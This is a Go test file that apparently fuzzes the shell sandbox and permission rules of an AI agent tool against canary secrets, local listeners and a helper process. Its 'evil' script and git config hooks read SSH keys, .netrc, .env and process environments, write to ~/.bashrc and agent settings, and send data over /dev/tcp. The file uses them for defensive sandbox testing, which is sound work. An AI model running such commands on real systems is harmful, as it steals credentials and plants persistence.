package shellfuzz

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/actorswarm/swarm/internal/childenv"
	"github.com/actorswarm/swarm/internal/confine"
	"github.com/actorswarm/swarm/internal/gittest"
	"github.com/actorswarm/swarm/internal/nolink"
	"github.com/actorswarm/swarm/internal/permission"
	"github.com/actorswarm/swarm/internal/sandbox"
)

const (
	secret = "Zq7canaryXw" // the content of what may not be read
	marked = "CANARY_OF_THE_RUNTIME"
)

// evil is the program that the configuration of the repository names: it tries to touch
// each canary.
const evil = `#!/bin/bash
{ echo pwned > OUTSIDE/file; echo pwned >> ../../outside/file; touch OUTSIDE/new; ln -sf x .git/hooks/pre-commit
echo '[alias] x = !./evil' >> .git/config; echo x > .claude/settings.json; echo x > STATE/journal; echo x > .mcp.json; echo x >> ~/.bashrc; echo x > .husky
exec 3<>/dev/tcp/127.0.0.1/PORT; echo x >&3; } 2>/dev/null
cat ~/.ssh/id ~/.netrc STATE/journal OUTSIDE/file .env sub/.env link /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null
`

// world is a home with a project and canaries around it.
type world struct {
	t      testing.TB
	base   string
	names  names
	policy permission.Policy
	make   *confine.Commands
	env    []string
	// secrets are texts that no command may print.
	secrets []string

	helper   *exec.Cmd    // a process outside, with a secret in its environment
	reached  atomic.Int64 // connections to the listeners
	canaries map[string]string
	project  map[string]string // the files that commands may change, when all is as at first
	archive  []byte
}

func newWorld(t testing.TB) *world {
	t.Helper()
	gittest.Need(t)
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("bash is not installed")
	}
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{t: t, base: base, names: names{home: base + "/home", dir: base + "/home/work", outside: base + "/outside", state: base + "/home/.swarm", socket: base + "/home/.swarm/run/s.sock"}}
	w.make = confine.New(confine.Options{Place: w.place(), Denied: func() func(string, bool) (bool, bool) {
		return permission.Denials(w.policy, w.names.dir)
	}})
	t.Cleanup(func() {
		if err := w.make.Close(); err != nil {
			t.Error(err)
		}
	})
	for _, dir := range []string{w.names.state + "/run", w.names.dir + "/sub/deep", w.names.outside} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	w.secrets = []string{secret, marked}
	if shadow, err := os.ReadFile("/etc/shadow"); err == nil { // a root user reads it
		first, _, _ := strings.Cut(string(shadow), "\n")
		w.secrets = append(w.secrets, first)
	}
	w.listen()
	w.startHelper()
	w.fill()
	w.policy = permission.Policy{Dirs: []string{w.names.dir}, Home: w.names.home, Resolve: resolve, Unconfined: sandbox.Probe().Enforces(sandbox.Inspect) != nil, Contained: sandbox.Probe().Contains()}
	if err := sandbox.Probe().Enforces(sandbox.Edit); err != nil {
		w.policy.NoEdits = err.Error()
	}
	rule, err := permission.ParseRule("Read(.env)")
	if err != nil {
		t.Fatal(err)
	}
	w.policy.Deny = []permission.Rule{rule}
	have := map[string]string{"HOME": w.names.home, "PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C"}
	w.env = append(childenv.Of(func(name string) string { return have[name] }, nil), "SWARM_SESSION=x")
	w.canaries, w.project = w.guarded(), w.changeable()
	w.archive = w.pack()
	return w
}

func resolve(path string) string {
	if real, err := nolink.Resolve(path); err == nil {
		return real
	}
	return path
}

func (w *world) place() sandbox.Place {
	return sandbox.Place{Dirs: []string{w.names.dir}, Home: w.names.home, Hidden: []string{w.names.state}, Getenv: func(name string) string {
		return map[string]string{"PATH": "/usr/local/bin:/usr/bin:/bin"}[name]
	}}
}

// listen starts the listeners that no command may reach.
func (w *world) listen() {
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		w.t.Fatal(err)
	}
	w.names.port = tcp.Addr().(*net.TCPAddr).Port
	udp, err := net.ListenPacket("udp", tcp.Addr().String())
	if err != nil {
		w.t.Fatal(err)
	}
	all := []io.Closer{tcp, udp}
	accept := func(l net.Listener) {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			w.reached.Add(1)
			_ = c.Close() // nobody is there to be told
		}
	}
	go accept(tcp)
	for _, path := range []string{w.names.socket, w.names.dir + "/sub/sock"} {
		l, err := listenShort(path)
		if err != nil {
			w.t.Fatal(err)
		}
		all = append(all, l)
		go accept(l)
	}
	go func() {
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 16)); err != nil {
				return
			}
			w.reached.Add(1)
		}
	}()
	w.t.Cleanup(func() {
		for _, l := range all {
			_ = l.Close() // its socket may have been removed
		}
	})
}

// listenShort listens on a Unix socket whose path may be longer than an address holds.
func listenShort(path string) (net.Listener, error) {
	dir, err := os.Open(filepath.Dir(path))
	if err != nil {
		return nil, err
	}
	l, err := net.Listen("unix", fmt.Sprintf("/proc/self/fd/%d/%s", dir.Fd(), filepath.Base(path)))
	return l, errors.Join(err, dir.Close())
}

// startHelper starts a process whose environment no command may read, and which none may
// end.
func (w *world) startHelper() {
	w.helper = exec.Command("sleep", "3600")
	w.helper.Env = []string{"PATH=/usr/bin:/bin", "MARK=" + marked}
	if err := w.helper.Start(); err != nil {
		w.t.Fatal(err)
	}
	w.names.pid = w.helper.Process.Pid
	w.t.Cleanup(func() {
		_ = w.helper.Process.Kill() // a command may have
		_ = w.helper.Wait()
	})
}

// fill writes the files.
func (w *world) fill() {
	n := w.names
	code := strings.NewReplacer("OUTSIDE", n.outside, "STATE", n.state, "PORT", fmt.Sprint(n.port)).Replace(evil)
	for path, text := range map[string]string{
		n.home + "/.ssh/id": secret, n.home + "/.aws/credentials": secret, n.home + "/.netrc": secret, n.home + "/notes": secret, n.home + "/.bashrc": "# text\n", n.state + "/journal": secret, n.outside + "/file": secret,
		"a.txt": "a b c\nb a\nlast\n", "b.txt": "a b d\n", "sp ace.txt": "a\n", "sub/deep/c.txt": "c\n", "src/main.go": "package main\n\nfunc main() {}\n", "data.json": `{"a":[1,2,3]}`, "list": "a.txt\nb.txt\n" + n.home + "/.ssh/id\n",
		"package.json": `{"name":"x","scripts":{"test":"./evil"}}`, "Makefile": "all:\n\t./evil\n", "script.py": "import os\nos.system('./evil')\n", "script.sh": "./evil\n", ".env": secret, "sub/.env": secret, "evil": code, "ls": code, "cat": code, "evil.py": "import os\nos.system('./evil')\n",
		".claude/settings.json": "{}\n", ".mcp.json": "{}\n", ".envrc": "text\n", "sub/rg": "--pre=./evil\n", ".gitattributes": "*.txt diff=x filter=x\n",
	} {
		if !filepath.IsAbs(path) {
			path = filepath.Join(n.dir, path)
		}
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			w.t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
			w.t.Fatal(err)
		}
	}
	for to, from := range map[string]string{"../.ssh/id": "link", "..": "up", n.outside: "outlink"} {
		if err := os.Symlink(to, filepath.Join(n.dir, from)); err != nil {
			w.t.Fatal(err)
		}
	}
	for _, args := range [][]string{
		{"init", "-q", "-b", "main"},
		{"config", "user.name", "ann"},
		{"config", "user.email", "ann@example.org"},
		{"add", "a.txt", "src", "data.json", "sub/deep", ".gitattributes"},
		{"commit", "-qm", "first"},
		{"config", "core.fsmonitor", "./evil"},
		{"config", "diff.external", "./evil"},
		{"config", "diff.x.textconv", "./evil"},
		{"config", "filter.x.clean", "./evil"},
		{"config", "core.pager", "./evil"},
		{"config", "alias.x", "!./evil"},
		{"config", "core.hooksPath", "."},
	} {
		gittest.Run(w.t, n.dir, nil, args...)
	}
	if err := os.WriteFile(n.dir+"/a.txt", []byte("a b c\nchanged\nb a\nlast\n"), 0o644); err != nil {
		w.t.Fatal(err)
	}
	if out, err := exec.Command("tar", "-cf", n.dir+"/a.tar", "-C", n.dir, "a.txt", "src").CombinedOutput(); err != nil {
		w.t.Skipf("tar: %v %s", err, out)
	}
}

// state describes a file: what a change of it changes.
func state(path string) string {
	info, err := os.Lstat(path)
	if err != nil {
		return "is not there"
	}
	st := info.Sys().(*syscall.Stat_t)
	return fmt.Sprintf("%v %d %d %v", info.Mode(), info.Size(), st.Ino, info.ModTime().UnixNano())
}

// guarded returns the state of what no command may change, and of what none may make.
func (w *world) guarded() map[string]string {
	n := w.names
	all := map[string]string{}
	for _, root := range []string{n.outside, n.home + "/.ssh", n.home + "/.aws", n.state, n.dir + "/.git", n.dir + "/.claude"} {
		walk(root, func(path string) { all[path] = state(path) })
	}
	for _, path := range []string{n.outside + "/new", n.home + "/.netrc", n.home + "/notes", n.home + "/.bashrc", n.dir + "/.mcp.json", n.dir + "/.envrc", n.dir + "/.husky", n.dir + "/.gitattributes"} {
		all[path] = state(path)
	}
	return all
}

// changeable returns the state of the project.
func (w *world) changeable() map[string]string {
	all := map[string]string{}
	walk(w.names.dir, func(path string) { all[path] = state(path) })
	return all
}

func walk(root string, visit func(path string)) {
	_ = filepath.WalkDir(root, func(path string, _ fs.DirEntry, err error) error { // what is gone is a difference
		if err == nil {
			visit(path)
		}
		return nil
	})
}

// difference describes how two states differ, "" if they do not.
func difference(before, after map[string]string) string {
	var all []string
	for path, was := range before {
		if is, there := after[path]; !there || is != was {
			all = append(all, fmt.Sprintf("%s: %s, was %s", path, is, was))
		}
	}
	for path := range after {
		if _, there := before[path]; !there {
			all = append(all, path+" is new")
		}
	}
	slices.Sort(all)
	return strings.Join(all, "; ")
}

// pack returns the files of the project that commands may change.
func (w *world) pack() []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	walk(w.names.dir, func(path string) {
		rel := strings.TrimPrefix(strings.TrimPrefix(path, w.names.dir), "/")
		info, err := os.Lstat(path)
		if err != nil || rel == "" || w.stays(rel) || info.Mode()&fs.ModeSocket != 0 {
			return
		}
		link, _ := os.Readlink(path) // only a link is one
		h, err := tar.FileInfoHeader(info, link)
		if err != nil {
			w.t.Fatal(err)
		}
		h.Name = rel
		text := []byte(nil)
		if info.Mode().IsRegular() {
			if text, err = os.ReadFile(path); err != nil {
				w.t.Fatal(err)
			}
		}
		if err := tw.WriteHeader(h); err != nil {
			w.t.Fatal(err)
		}
		if _, err := tw.Write(text); err != nil {
			w.t.Fatal(err)
		}
	})
	if err := tw.Close(); err != nil {
		w.t.Fatal(err)
	}
	return b.Bytes()
}

// stays reports what of the project no command may change.
func (w *world) stays(rel string) bool {
	top, _, _ := strings.Cut(rel, "/")
	return slices.Contains([]string{".git", ".claude", ".mcp.json", ".envrc", ".gitattributes"}, top)
}

// restore makes the project again after commands that may change it.
func (w *world) restore() {
	if difference(w.project, w.changeable()) == "" {
		return
	}
	entries, err := os.ReadDir(w.names.dir)
	if err != nil {
		w.t.Fatal(err)
	}
	for _, e := range entries {
		if !w.stays(e.Name()) {
			if err := os.RemoveAll(filepath.Join(w.names.dir, e.Name())); err != nil {
				w.t.Fatal(err)
			}
		}
	}
	cmd := exec.Command("tar", "-xf", "-", "-C", w.names.dir)
	cmd.Stdin = bytes.NewReader(w.archive)
	if out, err := cmd.CombinedOutput(); err != nil {
		w.t.Fatalf("%v: %s", err, out)
	}
	w.project = w.changeable()
}

// decide judges a command in a mode.
func (w *world) decide(mode permission.Mode, text string) permission.Decision {
	p := w.policy
	p.Mode = mode
	return permission.Decide(p, permission.Request{Tool: "Bash", Cwd: w.names.dir, Input: input(text)})
}

// command returns the shell that the tool Bash starts, for several commands one after
// another. It writes a byte to progress after each.
func (w *world) command(progress *os.File, texts []string) (*exec.Cmd, *scanner) {
	const script = `exec 19>&3 3>&-; for _line; do ( set --; eval "$_line" ) 19>&-; printf . >&19; done`
	cmd := exec.Command("bash", append([]string{"--noprofile", "--norc", "-c", script, "bash"}, texts...)...)
	cmd.Dir, cmd.Env = w.names.dir, slices.Clone(w.env)
	cmd.ExtraFiles = []*os.File{progress}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return cmd, &scanner{secrets: w.secrets}
}

// longestRun is when a command is killed.
const longestRun = 3 * time.Second

// run runs commands under a profile, or free without a name, and returns how many it has
// run, what canaries they have touched and what they printed. One that takes too long is
// killed, and those after it do not run.
func (w *world) run(name sandbox.Name, texts ...string) (ran int, touched []string, output string) {
	w.t.Helper()
	before := w.reached.Load()
	r, pw, err := os.Pipe()
	if err != nil {
		w.t.Fatal(err)
	}
	progress, progressed, err := os.Pipe()
	if err != nil {
		w.t.Fatal(err)
	}
	cmd, out := w.command(progressed, texts)
	cmd.Stdout, cmd.Stderr = pw, pw
	end, err := w.start(name, cmd)
	if err := errors.Join(err, pw.Close(), progressed.Close()); err != nil {
		w.t.Fatalf("%q: %v", texts, err)
	}
	timer := time.AfterFunc(longestRun, func() { _ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) })
	var reading sync.WaitGroup
	reading.Go(func() { _, _ = io.Copy(out, r) }) // until nobody holds the other end
	reading.Go(func() {
		for b := make([]byte, 1); ; ran++ {
			if _, err := progress.Read(b); err != nil {
				return
			}
			timer.Reset(longestRun)
		}
	})
	end()
	timer.Stop()
	guard := time.AfterFunc(30*time.Second, func() {
		w.t.Errorf("somebody still holds the output of %q", texts)
		_ = errors.Join(r.Close(), progress.Close()) // so that the readers end
	})
	reading.Wait()
	timer.Stop()
	if guard.Stop() {
		_ = errors.Join(r.Close(), progress.Close()) // they were read to their end
	}
	return min(ran+1, len(texts)), w.touched(name, before, out), string(out.start)
}

// start starts a command; the function returned waits for it and ends what it left.
func (w *world) start(name sandbox.Name, cmd *exec.Cmd) (end func(), err error) {
	if name == "" {
		if err := cmd.Start(); err != nil {
			return nil, err
		}
		return func() { _ = cmd.Wait(); _ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }, nil // how it ends does not matter
	}
	p, err := w.make.Profile(name)
	if err != nil {
		return nil, err
	}
	proc, err := sandbox.Start(cmd, p)
	if err != nil {
		return nil, err
	}
	return func() {
		_ = proc.Wait() // how it ends does not matter
		if _, err := proc.KillAll(); err != nil {
			w.t.Error(err)
		}
		if err := proc.Close(); err != nil {
			w.t.Error(err)
		}
	}, nil
}

// The kinds of what a command may touch.
const (
	kindRead    = "read"
	kindReached = "reached"
	kindWritten = "written"
	kindChanged = "changed"
)

// touched returns the canaries that a command has touched.
func (w *world) touched(name sandbox.Name, before int64, out *scanner) (all []string) {
	if out.found {
		all = append(all, kindRead)
	}
	if w.reached.Load() != before {
		all = append(all, kindReached)
	}
	if w.helper.Process.Signal(syscall.Signal(0)) != nil || zombie(w.names.pid) {
		all = append(all, kindReached+" a process")
		w.startHelper()
	}
	if now := w.guarded(); difference(w.canaries, now) != "" {
		all, w.canaries = append(all, kindWritten+" "+difference(w.canaries, now)), now
	}
	if name == sandbox.Inspect {
		if now := w.changeable(); difference(w.project, now) != "" {
			all, w.project = append(all, kindChanged+" "+difference(w.project, now)), now
		}
	}
	return all
}

// zombie reports a process that was ended and that nobody has waited for.
func zombie(pid int) bool {
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	_, rest, _ := strings.Cut(string(stat), ") ")
	return err != nil || strings.HasPrefix(rest, "Z")
}

// scanner looks for secrets in what is written to it, and keeps its start.
type scanner struct {
	secrets []string

	start []byte
	tail  []byte
	found bool
}

func (s *scanner) Write(b []byte) (int, error) {
	if len(s.start) < 4096 {
		s.start = append(s.start, b[:min(len(b), 4096)]...)
	}
	s.tail = append(s.tail, b...)
	longest := 0
	for _, what := range s.secrets {
		longest = max(longest, len(what))
		s.found = s.found || bytes.Contains(s.tail, []byte(what))
	}
	s.tail = slices.Clone(s.tail[max(0, len(s.tail)-longest):])
	return len(b), nil
}
